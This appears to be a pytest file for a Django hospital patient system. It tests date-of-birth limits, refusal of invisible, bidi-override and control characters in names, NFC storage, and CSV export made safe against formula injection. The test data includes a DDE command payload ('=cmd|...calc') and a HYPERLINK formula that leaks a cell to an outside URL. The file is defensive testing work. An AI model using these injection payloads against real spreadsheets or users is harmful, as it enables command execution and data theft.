"""Input rules: dates of birth from 1900 to today; names and free text in NFC without control, invisible, private-use,
unassigned or blank-filler characters (API, pages, admin, offline sync and import alike; core/text.py); CSV exports
a spreadsheet cannot run as formulas."""

import csv
import datetime
import io

import pytest
from django.core.management import CommandError, call_command
from django.db import IntegrityError, transaction
from django.utils import timezone

from core.spreadsheet import safe_cell, unquote_cell
from patients.models import Patient
from patients.services import register_patient
from tests.patients.test_import import run
from tests.terminals.conftest import create_seed_terminals, terminal_client


@pytest.mark.parametrize("dob", ["0001-01-01", "1899-12-31"])
def test_a_date_of_birth_before_1900_is_refused(api, dob):
    response = api.post("/api/v1/patients/", {"full_name": "A", "dob": dob}, format="json")
    assert response.status_code == 400 and "1900-01-01" in response.json()["dob"][0]


def test_dates_of_birth_from_1900_to_today_in_the_hospital_zone_are_accepted(api):
    for dob in ("1900-01-01", timezone.localdate().isoformat()):
        assert api.post("/api/v1/patients/", {"full_name": "A", "dob": dob}, format="json").status_code == 201
    tomorrow = (timezone.localdate() + datetime.timedelta(days=1)).isoformat()
    assert api.post("/api/v1/patients/", {"full_name": "A", "dob": tomorrow}, format="json").status_code == 400


# Each refused kind, with the code point and kind the message must name. (U+E0041: a tag letter; U+0378: unassigned.)
INVISIBLE, CONTROL, FILLER = "an invisible character", "a control character", "an invisible filler character"
REFUSED = [
    ("Ali\u202eredla", "U+202E", INVISIBLE), ("Ali\u200bKhan", "U+200B", INVISIBLE), ("\u2066Ali\u2069", "U+2066", INVISIBLE),
    ("Ali\ufeff", "U+FEFF", INVISIBLE), ("Ali\u061cKhan", "U+061C", INVISIBLE), ("Ali\u00adKhan", "U+00AD", INVISIBLE),
    ("Ali\U000e0041", "U+E0041", INVISIBLE), ("Ali\u2028Khan", "U+2028", "an invisible line separator"),
    ("Ali\u2029Khan", "U+2029", "an invisible paragraph separator"), ("Ali\u0007", "U+0007", CONTROL),
    ("Ali\nKhan", "U+000A", CONTROL), ("Ali\u0085Khan", "U+0085", CONTROL), ("Ali\ue000", "U+E000", "a private-use character"),
    ("Ali\u0378", "U+0378", "an unassigned character"), ("\u3164", "U+3164", FILLER), ("Ali \u115f", "U+115F", FILLER),
    ("\u1160", "U+1160", FILLER), ("\uffa0", "U+FFA0", FILLER),
]


@pytest.mark.parametrize(("name", "code", "kind"), REFUSED)
def test_names_with_control_invisible_private_use_unassigned_or_blank_characters_are_refused(api, name, code, kind):
    response = api.post("/api/v1/patients/", {"full_name": "Ali", "father_name": name}, format="json")
    assert response.status_code == 400
    assert response.json()["father_name"] == [f"Father's name contains {kind} ({code}); remove it."]
    assert not Patient.objects.exists()


def test_the_full_name_and_the_address_are_checked_too_the_address_keeps_its_line_breaks(api):
    response = api.post("/api/v1/patients/", {"full_name": "Ali\u061c", "address": "Street 1\u0007"}, format="json")
    assert response.json() == {
        "full_name": ["Full name contains an invisible character (U+061C); remove it."],
        "address": ["Address contains a control character (U+0007); remove it."],
    }
    response = api.post("/api/v1/patients/", {"full_name": "Ali", "address": "House 4\r\nStreet 9"}, format="json")
    assert response.status_code == 201 and Patient.objects.get().address == "House 4\nStreet 9"


def test_names_are_stored_in_nfc_whatever_form_they_were_typed_in(api, desk):
    decomposed = "Jose\u0301 Zoe\u0308"  # e + combining acute, e + combining diaeresis
    body = api.post("/api/v1/patients/", {"full_name": decomposed, "father_name": decomposed}, format="json").json()
    assert body["full_name"] == body["father_name"] == "Jos\u00e9 Zo\u00eb"
    patient = Patient.objects.get(pk=body["id"])
    assert (patient.full_name, patient.father_name) == ("Jos\u00e9 Zo\u00eb", "Jos\u00e9 Zo\u00eb")
    api.patch(f"/api/v1/patients/{patient.pk}/", {"address": "Cafe\u0301"}, format="json")
    patient.refresh_from_db()
    assert patient.address == "Caf\u00e9"


@pytest.mark.parametrize("name", ["علی خان", "مُحَمَّد عَلی", "Ali Khan-Niazi", "O'Brien, Jr. (2)", "Ayesha  Bibi"])
def test_urdu_and_english_names_their_marks_digits_spaces_and_punctuation_are_welcome(api, name):
    response = api.post("/api/v1/patients/", {"full_name": name, "father_name": name}, format="json")
    assert response.status_code == 201 and response.json()["full_name"] == name


def test_right_to_left_names_themselves_are_welcome(api):
    response = api.post("/api/v1/patients/", {"full_name": "علی خان"}, format="json")
    assert response.status_code == 201 and response.json()["full_name"] == "علی خان"


def test_the_registration_form_refuses_them_too(desk):
    response = desk.post("/patients/register/", {"full_name": "Ali\u202eKhan"})
    assert response.status_code == 200 and "Full name contains an invisible character (U+202E)" in response.content.decode()
    assert not Patient.objects.exists()


def test_the_registration_form_stores_nfc(desk):
    desk.post("/patients/register/", {"full_name": "Jose\u0301", "confirm_duplicate": "on"})
    assert Patient.objects.get().full_name == "Jos\u00e9"


def test_the_admin_refuses_them_too(admin_client):
    response = admin_client.post("/admin/patients/patient/add/", {"full_name": "Ali\u3164", "sex": "M",
                                                                   "notify_language": "ur"})
    assert response.status_code == 200 and "U+3164" in response.content.decode()
    assert not Patient.objects.exists()


def test_doctors_queues_and_desks_are_held_to_the_same_rule(admin_api):
    response = admin_api.post("/api/v1/doctors/", {"name": "Dr. Ali\u200f"}, format="json")
    assert response.status_code == 400 and response.json()["name"] == [
        "Name contains an invisible character (U+200F); remove it."]
    response = admin_api.post("/api/v1/queues/", {"name": "Lab\u0007", "code": "LAB"}, format="json")
    assert response.status_code == 400 and "U+0007" in response.json()["name"][0]
    response = admin_api.post("/api/v1/desks/", {"name": "\uffa0", "queues": []}, format="json")
    assert response.status_code == 400 and "U+FFA0" in response.json()["name"][0]
    doctor = admin_api.post("/api/v1/doctors/", {"name": "Dr. Jose\u0301"}, format="json").json()
    assert doctor["name"] == "Dr. Jos\u00e9"


def test_a_terminals_offline_registration_is_held_to_the_same_rule(db):
    create_seed_terminals()
    lab1 = terminal_client("LAB1-PC")
    body = {"full_name": "Ali\u2028Khan", "offline": True, "origin_terminal_code": "LAB1-PC"}
    response = lab1.post("/api/patients/", body, format="json")
    assert response.status_code == 400 and "U+2028" in response.json()["full_name"][0]
    assert not Patient.objects.exists()


def test_the_database_refuses_control_characters_a_path_around_the_fields_would_store(db):
    patient = register_patient(full_name="Ali")
    with pytest.raises(IntegrityError, match="patients_patient_no_control_characters"), transaction.atomic():
        Patient.objects.filter(pk=patient.pk).update(full_name="Ali\u0007")
    with transaction.atomic():  # line breaks are fine in the address, not in a name
        Patient.objects.filter(pk=patient.pk).update(address="House 4\nStreet 9")


@pytest.mark.django_db
def test_the_import_refuses_them_too(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("mrn,full_name\n001-00-009,Ali\u200bKhan\n", encoding="utf-8")
    err = io.StringIO()
    with pytest.raises(CommandError, match="1 invalid row"):
        call_command("import_patients", str(path), stderr=err, verbosity=0)
    assert "line 2, full_name: Full name contains an invisible character (U+200B); remove it." in err.getvalue()
    assert not Patient.objects.exists()


@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_is_quoted_and_read_back(text):
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Ali", "'quoted", "", 42, None, "0300-1234567"])
def test_ordinary_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_the_patient_export_is_formula_safe_and_imports_back(tmp_path):
    register_patient(full_name='=HYPERLINK("http://x/?"&A1)', phone="+92 300 1234567", address="@home")
    exported = tmp_path / "export.csv"
    call_command("export_patients", "--output", str(exported), stderr=io.StringIO())
    (row,) = list(csv.DictReader(exported.open(encoding="utf-8")))
    assert row["full_name"].startswith("'=") and row["phone"] == "'+92 300 1234567" and row["address"] == "'@home"
    before = list(Patient.objects.values("mrn", "full_name", "phone", "address"))
    Patient.history.all().delete()
    Patient.objects.all().delete()
    run(exported)
    assert list(Patient.objects.values("mrn", "full_name", "phone", "address")) == before
